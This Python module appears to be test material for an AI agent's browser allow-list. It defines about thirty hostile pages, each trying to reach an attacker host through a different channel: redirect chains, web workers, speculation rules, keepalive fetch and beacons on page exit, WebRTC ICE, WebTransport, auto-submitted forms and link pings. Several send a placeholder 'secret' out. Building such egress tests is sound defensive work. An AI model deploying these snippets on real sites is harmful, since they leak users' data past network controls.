"""Ways a hostile page on an allowed host can reach another host, each aimed at its own attacker port.

A vector is a page on the allowed site (served under /v/<name>) plus what the agent then does there:
nothing, click the link at the top-left, navigate to a URL, or leave the page (for channels that fire
on exit). Every vector is run twice by the tests: in a browser without the allow-list (it must reach the
attacker, or it proves nothing) and through the agent's browser with the allow-list (it must not).
Sources for the channels: WebRTC ICE (RFC 8445), speculation rules
(https://developer.chrome.com/docs/web-platform/prerender-pages), keepalive fetch
(https://fetch.spec.whatwg.org/#request-keepalive-flag), WebTransport
(https://developer.mozilla.org/en-US/docs/Web/API/WebTransport).
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass
from typing import Literal
from urllib.parse import quote

from attacker import Attacker

After = Literal["load", "click", "navigate", "leave"]
LINK_STYLE = "position:fixed;left:0;top:0;width:300px;height:60px;display:block;background:#ccc"


@dataclass(frozen=True)
class Vector:
    """One channel: `html(attacker, name)` is the page body; `navigate(attacker, name, base)` the URL a
    navigate action goes to (for `after="navigate"`)."""

    name: str
    html: Callable[[Attacker, str], str]
    after: After = "load"
    navigate: Callable[[Attacker, str, str], str] | None = None


def _redirect(to: str, status: int = 302) -> str:
    return f"/r{status}?to={quote(to, safe='')}"


def _script(code: str) -> str:
    return f"<script>{code}</script>"


def _worker(kind: str, code: str) -> str:
    blob = f"URL.createObjectURL(new Blob([{json.dumps(code)}], {{type: 'text/javascript'}}))"
    return _script(f"window.w = new {kind}({blob});")


def _stun(a: Attacker, n: str) -> str:
    return _script(
        f"const pc = new RTCPeerConnection({{iceServers: [{{urls: 'stun:{a.host}:{a.udp(n)}'}}]}});"
        "pc.createDataChannel('x'); pc.createOffer().then(o => pc.setLocalDescription(o));"
    )


def _turn_tcp(a: Attacker, n: str) -> str:
    server = f"turn:{a.host}:{a.tcp(n)}?transport=tcp"
    return _script(
        f"const ice = [{{urls: '{server}', username: 'u', credential: 'p'}}];"
        "const pc = new RTCPeerConnection({iceServers: ice});"
        "pc.createDataChannel('x'); pc.createOffer().then(o => pc.setLocalDescription(o));"
    )


def _peer(a: Attacker, n: str) -> str:
    """A peer connection told that its remote peer sits at the attacker: ICE sends its checks there."""
    candidate = f"candidate:1 1 udp 2122260223 {a.host} {a.udp(n)} typ host"
    return _script(
        "(async () => { const pc = new RTCPeerConnection(); pc.createDataChannel('x');"
        "const offer = await pc.createOffer(); await pc.setLocalDescription(offer);"
        "const sdp = offer.sdp.replace('a=setup:actpass', 'a=setup:active');"
        "await pc.setRemoteDescription({type: 'answer', sdp});"
        f"await pc.addIceCandidate({{candidate: '{candidate}', sdpMid: '0'}}); window.pc = pc; }})();"
    )


VECTORS: tuple[Vector, ...] = (
    # redirects: every hop of every chain
    Vector("navigate-redirect", lambda a, n: "", "navigate", lambda a, n, base: base + _redirect(a.url(n))),
    Vector(
        "redirect-chain-307",
        lambda a, n: "",
        "navigate",
        lambda a, n, base: base + _redirect(base + _redirect(a.url(n), 307), 301),
    ),
    Vector("img-redirect", lambda a, n: f'<img src="{_redirect(a.url(n))}">'),
    Vector("fetch-redirect", lambda a, n: _script(f"fetch('{_redirect(a.url(n))}', {{mode: 'no-cors'}})")),
    Vector("script-redirect", lambda a, n: f'<script src="{_redirect(a.url(n))}"></script>'),
    Vector("iframe-redirect", lambda a, n: f'<iframe src="{_redirect(a.url(n), 307)}"></iframe>'),
    Vector(
        "link-redirect", lambda a, n: f'<a href="{_redirect(a.url(n))}" style="{LINK_STYLE}">go</a>', "click"
    ),
    # channels request interception does not see
    Vector("worker-websocket", lambda a, n: _worker("Worker", f"new WebSocket('ws://{a.host}:{a.tcp(n)}/')")),
    Vector("worker-fetch", lambda a, n: _worker("Worker", f"fetch('{a.url(n)}', {{mode: 'no-cors'}})")),
    Vector(
        "sharedworker-fetch",
        lambda a, n: _worker("SharedWorker", f"fetch('{a.url(n)}', {{mode: 'no-cors'}})"),
    ),
    Vector(
        "speculation-prefetch",
        lambda a, n: (
            '<script type="speculationrules">'
            + json.dumps({"prefetch": [{"source": "list", "urls": [a.url(n, "/prefetched")]}]})
            + "</script>"
        ),
    ),
    Vector(
        "speculation-prerender",
        lambda a, n: (
            '<script type="speculationrules">'
            + json.dumps({"prerender": [{"source": "list", "urls": [a.url(n, "/prerendered")]}]})
            + "</script>"
        ),
    ),
    Vector(
        "keepalive-on-exit",
        lambda a, n: _script(
            "addEventListener('pagehide', () => fetch("
            f"'{a.url(n)}', {{method: 'POST', body: 'secret', keepalive: true, mode: 'no-cors'}}))"
        ),
        "leave",
    ),
    Vector(
        "beacon-on-exit",
        lambda a, n: _script(
            f"addEventListener('pagehide', () => navigator.sendBeacon('{a.url(n)}', 'secret'))"
        ),
        "leave",
    ),
    Vector("webrtc-stun", _stun),
    Vector("webrtc-turn-tcp", _turn_tcp),
    Vector("webrtc-peer", _peer),
    Vector(
        "webtransport",
        lambda a, n: _script(f"try {{ new WebTransport('https://{a.host}:{a.udp(n)}/') }} catch (e) {{}}"),
    ),
    # the plain ones (request interception always caught these)
    Vector("img", lambda a, n: f'<img src="{a.url(n)}">'),
    Vector("fetch", lambda a, n: _script(f"fetch('{a.url(n)}', {{mode: 'no-cors'}})")),
    Vector("websocket", lambda a, n: _script(f"new WebSocket('ws://{a.host}:{a.tcp(n)}/')")),
    Vector("eventsource", lambda a, n: _script(f"new EventSource('{a.url(n)}')")),
    Vector("beacon", lambda a, n: _script(f"navigator.sendBeacon('{a.url(n)}', 'secret')")),
    Vector(
        "form-post",
        lambda a, n: (
            f'<form id="f" method="post" action="{a.url(n)}"><input name="pw" value="secret"></form>'
            + _script("document.getElementById('f').submit()")
        ),
    ),
    Vector(
        "css-url", lambda a, n: f"<div style=\"background:url('{a.url(n)}');width:9px;height:9px\"></div>"
    ),
    Vector(
        "https-fetch", lambda a, n: _script(f"fetch('https://{a.host}:{a.tcp(n)}/', {{mode: 'no-cors'}})")
    ),
    Vector("window-open", lambda a, n: _script(f"window.open('{a.url(n)}')")),
    Vector("meta-refresh", lambda a, n: f'<meta http-equiv="refresh" content="0;url={a.url(n)}">'),
    Vector(
        "link-ping",
        lambda a, n: f'<a href="/v/blank" ping="{a.url(n)}" style="{LINK_STYLE}">go</a>',
        "click",
    ),
)
